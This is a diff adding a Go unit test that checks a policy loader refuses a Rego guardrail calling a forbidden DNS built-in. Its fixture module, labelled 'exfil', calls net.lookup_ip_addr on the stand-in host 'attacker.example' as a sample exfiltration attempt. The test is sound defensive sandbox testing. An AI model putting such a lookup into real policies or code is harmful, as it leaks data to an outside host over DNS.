@@ -152,3 +152,22 @@ func TestLoadTruncatesLongMessages(t *testing.T) {
 		t.Fatalf("condition message of %d bytes ends with %q", len(cond.Message), cond.Message[len(cond.Message)-20:])
 	}
 }
+
+// TestLoadRefusesForbiddenBuiltins checks that a Guardrail that slipped
+// past the webhook with a forbidden built-in function is not loaded and its
+// condition names the function.
+func TestLoadRefusesForbiddenBuiltins(t *testing.T) {
+	store := guardrails.NewStore()
+	module := "package t.exfil\n\nviolation contains {\"msg\": \"x\"} if {\n\tnet.lookup_ip_addr(\"attacker.example\")\n}\n"
+	cond, err := Load(store, newGuardrail("exfil", "uid-1", 1, module))
+	if err == nil {
+		t.Fatal("Load of a Guardrail calling net.lookup_ip_addr succeeded")
+	}
+	if cond.Status != metav1.ConditionFalse || cond.Reason != ReasonCompileError ||
+		!strings.Contains(cond.Message, "exfil.rego:4:2: guardrail_sandbox_error: net.lookup_ip_addr is not allowed in a guardrail: it resolves names over DNS; nothing is enforced") {
+		t.Errorf("condition %+v, want CompileError naming net.lookup_ip_addr", cond)
+	}
+	if _, ok := store.Get("exfil"); ok {
+		t.Error("the Guardrail was loaded")
+	}
+}
